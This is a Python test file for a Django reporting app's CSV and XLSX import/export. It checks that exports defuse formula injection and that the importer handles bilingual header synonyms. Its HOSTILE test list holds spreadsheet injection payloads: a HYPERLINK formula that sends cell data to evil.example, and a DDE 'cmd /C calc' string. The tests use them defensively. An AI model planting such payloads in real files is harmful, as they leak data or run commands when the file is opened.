"""Hostile and careless files: formulas smuggled into exports, headers misspelt or renamed."""

import csv
import io
import zipfile
from collections import defaultdict
from decimal import Decimal

import openpyxl
import pytest
from django.utils import translation

from pacesetter.accounts.models import User
from pacesetter.catalogue.models import Measure
from pacesetter.core.periods import Period
from pacesetter.datavalues.models import DataValue, DataValueChange
from pacesetter.datavalues.services import datavalue_set
from pacesetter.imports import columns, services
from pacesetter.imports.guards import UploadRefused
from pacesetter.imports.readers import read_table
from pacesetter.imports.tests.conftest import PLAN, SHUANGCHENG, save, snapshot
from pacesetter.orgunits.models import OrgUnit
from pacesetter.plans.models import Plan

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def english():
    # The refusals are asserted word for word in English; one test asks for Chinese itself.
    with translation.override("en"):
        yield


HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
HOSTILE = [HYPERLINK, "+1+1", "-2+3 cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
REPORTER = "reporter-shuangcheng"


def _reporter() -> User:
    return User.objects.get(username=REPORTER)


def _import(data: bytes, name="figures.csv") -> int:
    return services.import_file(actor=_reporter(), name=name, data=data)


def _november(code: str) -> DataValue:
    return DataValue.objects.get(measure__code=code, orgunit__code=SHUANGCHENG, period="202311")


def _set_comment(code: str, comment: str, value="0.6") -> None:
    datavalue_set(
        actor=_reporter(),
        measure=Measure.objects.get(code=code),
        orgunit=OrgUnit.objects.get(code=SHUANGCHENG),
        period="202311",
        value=Decimal(value),
        comment=comment,
    )


def _export_csv() -> str:
    out = io.StringIO()
    services.export_csv(
        user=_reporter(), plan=Plan.objects.get(code=PLAN), period=Period.parse("202311"), out=out
    )
    return out.getvalue()


def _export_xlsx() -> bytes:
    return services.export_xlsx(
        user=_reporter(), plan=Plan.objects.get(code=PLAN), period=Period.parse("202311")
    )


def _runs_as_formula(text: str) -> bool:
    return text.startswith(columns.FORMULA_TRIGGERS)


# --- exports that are safe to open -------------------------------------------------------------


def test_a_formula_comment_imported_through_the_service_is_not_a_formula_in_a_csv_export(demo):
    quoted = '"' + HYPERLINK.replace('"', '""') + '"'
    data = f"indicator,unit,period,value,comment\nZR-I10,{SHUANGCHENG},202311,0.5,{quoted}\n"
    assert _import(data.encode()) == 1
    assert _november("ZR-I10").comment == HYPERLINK  # stored as typed: only exports are guarded
    rows = list(csv.DictReader(io.StringIO(_export_csv())))
    row = next(r for r in rows if r["indicator"] == "ZR-I10")
    assert row["comment"] == "'" + HYPERLINK
    assert row["value"] == "0.5"
    for record in rows:  # no text cell of the export starts like a formula
        for key, cell in record.items():
            if key != "value":
                assert not _runs_as_formula(cell), (key, cell)
            elif cell:
                Decimal(cell)


@pytest.mark.parametrize("comment", HOSTILE)
def test_each_formula_character_is_neutralised_in_csv_and_reads_back_unchanged(demo, comment):
    _set_comment("ZR-I10", comment, value="-2.5")  # the service path; checks are import's
    text = _export_csv()
    row = next(r for r in csv.DictReader(io.StringIO(text)) if r["indicator"] == "ZR-I10")
    assert row["comment"] == "'" + comment
    assert row["value"] == "-2.5"  # a number stays a number, sign and all
    # Imported back, the quote the export added is taken off again.
    table = read_table("export.csv", text.encode("utf-8"))
    assert next(r for r in table.rows if r.indicator == "ZR-I10").comment == comment.strip()


@pytest.mark.parametrize("comment", HOSTILE)
def test_an_xlsx_export_stores_formula_like_comments_as_text(demo, comment):
    _set_comment("ZR-I10", comment, value="-3")
    data = _export_xlsx()
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    header = {cell.value: cell.column for cell in sheet[1]}
    row = next(
        r for r in sheet.iter_rows(min_row=2) if r[header["indicator"] - 1].value == "ZR-I10"
    )
    cell = row[header["comment"] - 1]
    assert cell.data_type == "s" and cell.value == comment
    assert cell.quotePrefix  # Excel keeps it text even when the cell is edited
    value = row[header["value"] - 1]
    assert value.data_type == "n" and value.value == -3
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)


def test_the_entry_template_stores_a_formula_like_comment_as_text(demo):
    _set_comment("ZR-I10", HYPERLINK)
    _name, data = services.entry_template(
        user=_reporter(),
        orgunit=OrgUnit.objects.get(code=SHUANGCHENG),
        period=Period.parse("202311"),
    )
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if c.value == HYPERLINK]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)


# --- headers: synonyms accepted, anything else refused -------------------------------------------


def test_a_comment_column_headed_beizhu_imports_the_comments(demo):
    data = f"指标,单位,期间,数值,备注\nZR-I10,{SHUANGCHENG},202311,0.6,签约2个项目\n"
    assert _import(data.encode()) == 1
    assert _november("ZR-I10").comment == "签约2个项目"


@pytest.mark.parametrize(
    "header",
    [
        "indicator code,orgunit,month,amount,note",
        "指标代码,单位代码,月份,本月,情况说明",
        "指標,單位,期間,數值,備註",
        "Indicator,Org Unit,Period,Value,Remarks",
    ],
)
def test_usual_synonyms_of_each_column_are_read(demo, header):
    data = f"{header}\nZR-I10,{SHUANGCHENG},202311,0.6,合同已签\n"
    assert _import(data.encode()) == 1
    assert _november("ZR-I10").value == Decimal("0.6")
    assert _november("ZR-I10").comment == "合同已签"


@pytest.mark.parametrize(
    "header, named",
    [
        ("指标,单位,期间,数值,备注x", "备注x"),
        ("indicator,unit,period,value,coment", "coment"),
        ("indicator,unit,period,valeu,comment", "valeu"),
        ("indicator,unit,period,value,comment,my notes", "my notes"),
    ],
)
def test_an_unknown_or_misspelt_header_is_refused_with_the_accepted_ones(demo, header, named):
    _set_comment("ZR-I10", "kept")
    before = snapshot()
    data = f"{header}\nZR-I10,{SHUANGCHENG},202311,0.7,x\n"
    with pytest.raises(UploadRefused) as caught:
        _import(data.encode())
    message = caught.value.message
    assert f"Unknown column(s) “{named}”" in message
    assert "Accepted headers" in message
    for accepted in ("indicator", "value", "comment", "说明", "备注", "note"):
        assert accepted in message
    assert snapshot() == before


def test_an_unknown_header_is_refused_in_an_xlsx_too(demo):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Figures"
    sheet.append(["indicator", "unit", "period", "value", "备注x"])
    sheet.append(["ZR-I10", SHUANGCHENG, "202311", 0.6, "x"])
    before = snapshot()
    with pytest.raises(UploadRefused, match="Unknown column.*备注x.*Accepted headers"):
        _import(save(book), name="figures.xlsx")
    assert snapshot() == before


def test_two_headers_naming_the_same_column_are_refused(demo):
    data = f"指标,单位,期间,数值,说明,备注\nZR-I10,{SHUANGCHENG},202311,0.6,a,b\n"
    with pytest.raises(UploadRefused, match="“备注” on sheet figures.csv name a column"):
        _import(data.encode())


def test_the_refusal_is_in_the_users_language(demo):
    data = f"指标,单位,期间,数值,备注x\nZR-I10,{SHUANGCHENG},202311,0.6,x\n"
    with translation.override("zh-hans"), pytest.raises(UploadRefused) as caught:
        _import(data.encode())
    assert "备注x" in caught.value.message and "说明" in caught.value.message
    assert "无法识别的列" in caught.value.message


def test_no_spelling_names_two_columns_in_any_language():
    owners = defaultdict(set)
    for key, msgid in columns.LABELS.items():
        for name in columns._spellings(msgid, key) | set(
            map(columns.normalize, columns.SYNONYMS[key])
        ):
            owners[name].add(key)
    assert {name: keys for name, keys in owners.items() if len(keys) > 1} == {}


# --- comments are never blanked by a file that does not carry them --------------------------------


def test_a_csv_without_a_comment_column_keeps_the_stored_comments(demo):
    _set_comment("ZR-I10", "签约2个项目")
    assert _import(f"indicator,unit,period,value\nZR-I10,{SHUANGCHENG},202311,0.7\n".encode()) == 1
    figure = _november("ZR-I10")
    assert (figure.value, figure.comment) == (Decimal("0.7"), "签约2个项目")
    change = DataValueChange.objects.filter(datavalue=figure).latest("version")
    assert (change.old_comment, change.new_comment) == ("签约2个项目", "签约2个项目")


def test_an_xlsx_without_a_comment_column_keeps_the_stored_comments(demo):
    _set_comment("ZR-I10", "签约2个项目")
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "填报数据"
    sheet.append(["指标", "单位", "期间", "数值"])
    sheet.append(["ZR-I10", SHUANGCHENG, "202311", 0.8])
    assert _import(save(book), name="figures.xlsx") == 1
    assert (_november("ZR-I10").value, _november("ZR-I10").comment) == (
        Decimal("0.8"),
        "签约2个项目",
    )


def test_an_empty_comment_cell_under_a_comment_header_still_clears_the_comment(demo):
    _set_comment("ZR-I10", "old")
    assert (
        _import(f"indicator,unit,period,value,备注\nZR-I10,{SHUANGCHENG},202311,0.7,\n".encode())
        == 1
    )
    assert _november("ZR-I10").comment == ""


# --- the API's CSV body reads its header the same way ---------------------------------------------


def test_the_api_csv_accepts_the_same_synonyms_and_refuses_unknown_headers():
    from pacesetter.api.payloads import _csv_payload
    from pacesetter.core.exceptions import DomainError

    payload = _csv_payload(
        f"指标,单位,期间,数值,备注\nZR-I10,{SHUANGCHENG},202311,0.6,签约\n".encode(), PLAN
    )
    assert [(v.indicator, v.value, v.comment) for v in payload.values] == [
        ("ZR-I10", "0.6", "签约")
    ]
    with pytest.raises(DomainError) as caught:
        _csv_payload(
            f"indicator,unit,period,value,备注x\nZR-I10,{SHUANGCHENG},202311,0.6,x\n".encode(), PLAN
        )
    assert caught.value.code == "invalid_csv"
    assert "备注x" in caught.value.message and "Accepted headers" in caught.value.message
